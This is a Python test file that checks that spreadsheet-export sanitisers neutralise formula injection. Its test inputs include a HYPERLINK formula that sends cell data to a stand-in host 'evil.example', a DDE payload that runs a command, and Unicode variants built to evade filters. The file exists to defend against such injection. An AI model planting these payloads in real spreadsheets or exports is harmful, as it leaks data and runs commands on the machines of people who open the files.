"""No cell of a spreadsheet is ever run."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from livehelp_plugin.console.spreadsheets import csv_safe, xlsx_safe


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1",
        "-1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "'=1",
        '"=1',
        "\ufeff=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(1)",
        "\x00=1",
        "|calc",
    ],
)
def test_what_looks_like_a_formula_gets_an_apostrophe(formula: str) -> None:
    assert csv_safe(formula).startswith("'")
    assert csv_safe(formula)[1:] == xlsx_safe(formula)


@pytest.mark.parametrize("text", ["", "Giulia", "1 + 1 = 2", "mail@example.com", "12,5 EUR", "“quoted”\nline", "été"])
def test_other_text_is_left_alone(text: str) -> None:
    assert csv_safe(text) == text


@given(st.text())
def test_no_cell_begins_like_a_formula_and_none_holds_what_xlsx_cannot(text: str) -> None:
    assert csv_safe(text)[:1] not in set("=+-@\t\r")
    assert all(sign >= " " or sign in "\t\r\n" for sign in xlsx_safe(text))
